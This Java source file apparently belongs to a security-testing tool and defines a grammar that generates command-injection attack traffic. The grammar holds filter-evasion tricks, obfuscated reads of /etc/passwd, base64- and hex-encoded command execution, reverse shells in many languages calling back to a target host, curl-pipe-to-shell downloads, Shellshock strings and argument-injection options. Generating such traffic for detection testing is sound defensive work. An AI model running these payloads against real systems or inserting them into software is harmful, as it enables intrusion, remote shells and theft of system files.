package ai.kongguard.traffic.attack;

import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;

/** Commands without spaces or without their names, commands of other languages, shells that call back. */
final class CommandDisguise {

    private static final Grammar GRAMMAR = CommandInjection.WORDS.extend(
            """
            space ::=
              4×${IFS}
              2×$IFS$9
              $IFS
              ${IFS}$9
              <
              «tab»
              %09
              $IFS$()
              ${IFS%??}
              +
              %20
              $u
              ${PATH:0:0}<
              «nl»
              <>
            tool ::=
              cat
              ls
              id
              whoami
              uname
              head
              tail
              nc
              wget
              curl
              ping
              more
              less
              tac
              nl
              grep
            broken_tool ::=
              2×«c'a't¦c"a"t¦c''at¦c""at¦c\\at¦\\c\\a\\t¦c$@at¦c${x}at¦ca$*t¦ca``t¦c$()at»
              2×«w'h'o'am'i¦w"h"o"am"i¦w\\ho\\am\\i¦who$@ami¦who$()ami¦wh``oami¦who${«letters 1..2»}ami¦/usr/bin/w?oami¦wh''oami»
              «l's'¦l"s"¦l\\s¦l$@s¦'l's¦/b?n/ls¦/???/l?¦/bin/l[s]»
              «i\\d¦i'd'¦'i'd¦i$@d¦i""d¦/usr/bin/i?¦i${x}d»
              /«???¦b?n¦bi*¦b[i]n»/«c?t¦ca?¦«wild»at¦l?¦«letters 1..1»?t¦n?¦t?c¦[c]at»
              «u\\name¦un''ame¦'u'name¦una$@me»
              «p'i'ng¦pin$@g¦p\\ing»
              «c'u'rl¦cu\\rl¦w'g'et¦wg\\et¦n'c¦n\\c»
              a=«c¦w¦l»;b=«at¦ho¦s»;$a$b
            broken_file ::=
              3×/«secret_file»
              /e??/p??swd
              /et«c¦?»/pass«wd¦*¦w?»
              /???/??ss??
              /e't'c/pa"s"swd
              /e\\tc/pas\\swd
              $'\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64'
              ${HOME:0:1}etc${HOME:0:1}passwd
              ${PATH:0:1}«secret_file»
              /etc/pa$@sswd
              /e{t,}c/passwd
              $(echo /«secret_file»)
              /etc/./passwd
              `echo -n /etc/`passwd
              /etc/passw[d]
              $(printf '\\57')etc$(printf '\\57')passwd
            spaceless ::=
              6×«out»«tool»«space»«broken_file»«finish»
              3×«out»{«tool»,«-«letters 1..2»,¦»«broken_file»}«finish»
              2×«out»«s!=space»ping«=s»-c«=s»«1..9»«=s»«ip»«finish»
              2×«out»«s!=space»«curl¦wget»«=s»«url»«finish»
              «out»«s!=space»«ls¦find¦dir»«=s»«-la¦/¦/etc»«finish»
              «out»X=$'«tool»\\x20«broken_file»'&&$X«finish»
              «out»IFS=,;`«tool»<<<«tool»,«broken_file»`«finish»
              «out»«s!=space»uname«=s»-a«finish»
              «given»«$(¦`»«tool»«space»«broken_file»«)¦`»
              «out»«tool»<«broken_file»«finish»
              «out»«tool»$IFS$@«broken_file»«finish»
            quoted ::=
              6×«out»«broken_tool» «broken_file»«finish»
              2×«out»«broken_tool»«finish»
              «out»«broken_tool»«space»«broken_file»«finish»
              3×«out»echo «@base64 «unix_command»» |«?«sp»»base64 -«d¦D¦-decode»«?«sp»»|«?«sp»»«sh¦bash»
              «out»«bash<<<$(base64 -d<<<«@base64 «unix_command»»)¦`echo «@base64 «unix_command»»|base64 -d`»
              2×«out»«echo¦printf» «@hex «unix_command»»«sp»|«sp»xxd -r -p«sp»|«sp»«sh¦bash»
              2×«out»«$(printf¦`printf¦echo -e¦$(echo -e» «'¦"»«@slashx «unix_command»»«'¦"»«)¦`¦|sh»
              «out»$(rev<<<'«@reverse «unix_command»»')
              «out»echo '«@reverse «unix_command»»'|rev|«sh¦bash»
              «out»$'«@octal «tool»»' «broken_file»
              «out»«x:=letters 1..2»=«tool»;$«=x» «broken_file»«finish»
              «out»$(tr '[A-Z]' '[a-z]'<<<'«@upper «tool»»')
              «out»$(tr "[:upper:]" "[:lower:]"<<<"«@mix whoami»")
              «out»${«?!»«@upper «letters 3..6»»:«0..9»:1}«letters 1..2» «broken_file»
              «out»eval $(echo «@base64 «unix_command»»|base64 -d)«finish»
              «out»python -c "exec('«@base64 import os;os.system("id")»'.decode('base64'))"
              «out»«bash¦sh» -c '{echo,«@base64 «unix_command»»}|{base64,-d}|{bash,-i}'
              «out»cat $(echo «@hex /«secret_file»» | xxd -r -ps)
            shell ::=
              4×«out»«bash¦/bin/bash¦sh» -i >«?&» /dev/«tcp¦udp»/«target»/«port» 0>&1«finish»
              2×«out»bash -c «q:='¦"»bash -i >& /dev/tcp/«target»/«port» 0>&1«=q»
              3×«out»«nc¦ncat¦netcat¦nc.traditional¦/bin/nc» -e /bin/«sh¦bash» «target» «port»«finish»
              2×«out»rm «?-f »/tmp/«f:=letters 1..3»;mkfifo /tmp/«=f»;cat /tmp/«=f»|«/bin/sh¦sh¦bash» -i 2>&1|nc «target» «port» >/tmp/«=f»
              2×«out»«python¦python3» -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("«target»",«port»));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);«subprocess.call(["/bin/sh","-i"])¦import pty;pty.spawn("/bin/bash")»'
              «out»perl -e 'use Socket;$i="«target»";$p=«port»;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'
              «out»php -r '$sock=fsockopen("«target»",«port»);«exec¦shell_exec¦system¦passthru»("/bin/sh -i <&3 >&3 2>&3");'
              «out»ruby -rsocket -e'f=TCPSocket.open("«target»",«port»).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
              «out»exec 5<>/dev/tcp/«target»/«port»;cat <&5|while read l;do $l 2>&5 >&5;done
              «out»socat «exec:'bash -li',pty,stderr tcp:«target»:«port»¦tcp-connect:«target»:«port» exec:/bin/sh»
              «out»«curl¦wget -qO-» «url»«sp»|«sp»«bash¦sh¦python»«finish»
              «out»powershell -nop -c "$c=New-Object Net.Sockets.TCPClient('«target»',«port»);$s=$c.GetStream();iex $d"
              «out»telnet «target» «port» | /bin/bash | telnet «target» «port»
              «out»awk 'BEGIN{s="/inet/tcp/0/«target»/«port»";while(1){s|&getline c;c|getline}}'
              «out»lua -e "require('socket');os.execute('/bin/sh -i <&3')"
              «out»cd /tmp«;¦ || cd /var/run;»«wget¦curl -O» «url»;chmod «777¦+x» «name»;«./¦sh »«name»;rm -rf «name»
            target ::=
              «ip»
              «host»
            runner ::=
              3×«?«word»;»«system¦exec¦shell_exec¦passthru¦popen¦proc_open»(«q:='¦"»«unix_command»«=q»«?,'r'»)«?;»
              2×«?;»«?<?php »«print¦echo¦die»(«`«unix_command»`¦«system¦exec¦shell_exec»('«unix_command»'))»«?;//»
              3×«__import__('os')¦os¦import os;os».«system¦popen»(«q:='¦"»«unix_command»«=q»)«?.read()»
              2×«subprocess¦__import__('subprocess')».«call¦check_output¦Popen¦run¦getoutput»(«q:='¦"»«unix_command»«=q»«?,shell=True»)
              «eval(compile('import os;os.system("«whoami¦id»")','','exec'))¦exec("import os;os.system('id')")»
              2×«Runtime¦java.lang.Runtime».getRuntime().exec(«q:='¦"»«unix_command»«=q»)
              new ProcessBuilder(«?"/bin/sh","-c",»"«unix_command»").start()
              3×«global.process.mainModule.¦process.mainModule.¦»require('child_process').«exec¦execSync¦spawn¦spawnSync»('«unix_command»')«?.toString()»
              process.«binding('spawn_sync')¦env.«@upper «name»»¦exit(«0..9»)¦mainModule.constructor._load('child_process')»
              «system¦exec¦%x¦`¦IO.popen»(«'¦"»«unix_command»«'¦"»)
              eval(«'¦"¦»«require('fs').readFileSync('/«secret_file»')¦Process.Start("cmd.exe","/c «windows_command»")¦1+1;system('id')»«'¦"¦»)
              assert(«'¦"»system('«unix_command»')«'¦"»)
              «;¦'.¦".¦${@»«system¦phpinfo¦print»(«md5(«1..999»)¦'«unix_command»'»)«;//¦.'¦."¦}»
              |«unix_command»|
              open('|«unix_command»')
              Kernel.«exec¦system¦spawn»('«unix_command»')
              «wscript¦new ActiveXObject("WScript.Shell")».Run("«windows_command»")
              <!--#«exec cmd="«unix_command»"¦include virtual="/«secret_file»"¦echo var="«DATE_LOCAL¦DOCUMENT_ROOT»"»«?«sp»»-->
            bash_function ::=
              6×() { «:;¦:; ¦«letters 1..5»;¦_;»}«;¦; »«?echo;«?«sp»»»«?/bin/»«bash -c "«unix_command»"¦«unix_command»»
              3×() { :;}; echo «?-e »«'¦"»«alnum 4..9»«: ¦\\r\\n\\r\\n¦»«'¦"»«?; «unix_command»»
              2×() { _; } >_[$($())] { «unix_command»; }
              () { :;}; /bin/«bash¦sh» -i >& /dev/tcp/«target»/«port» 0>&1
              () { «letters 3..6»; }; «/usr/bin/¦»«curl¦wget» «url»
            option ::=
              2×--«output¦output-document¦upload-file¦config¦use-compress-program¦to-command¦checkpoint-action=exec»=«/tmp/«name»¦«unix_command»¦/«secret_file»»
              -o«?«sp»»ProxyCommand=«"¦'¦»«unix_command»«"¦'¦»
              --upload-pack=«`«unix_command»`¦touch /tmp/«name»¦"«unix_command»"»
              -«exec¦execdir» «unix_command» \\;
              -«X¦OQueueDirectory=/tmp -X»/var/www/html/«name».php
              ext::sh -c «unix_command»
              --checkpoint=1 --checkpoint-action=exec=«sh «name».sh¦«unix_command»»
              -T /«secret_file» «url»
              -K /«secret_file»
              --pre-receive=«unix_command»
              -oStrictHostKeyChecking=no -oProxyCommand=«unix_command»
              -v«?=»/:/mnt«? --privileged»
              --reference=/«secret_file»
              -I«?x» «unix_command»
              --post-file=/«secret_file»
              «host» -«w¦W¦oN¦oG» /var/www/html/«name».php
              -f/«secret_file»
              --open-files-in-pager="«unix_command»"
            """);

    static final List<AttackFamily> FAMILIES = List.of(
            CommandInjection.family(GRAMMAR, "command_spaceless", "spaceless"),
            CommandInjection.family(GRAMMAR, "command_quoted", "quoted"),
            CommandInjection.family(GRAMMAR, "command_shell", "shell"),
            CommandInjection.family(GRAMMAR, "command_runner", "runner"),
            CommandInjection.family(GRAMMAR, "command_bash_function", "bash_function")
                    .in(Placement.HEADER, Placement.HEADER, Placement.HEADER, Placement.COOKIE, Placement.QUERY),
            CommandInjection.family(GRAMMAR, "command_option", "option").reservedForSimulation());

    private CommandDisguise() {}
}
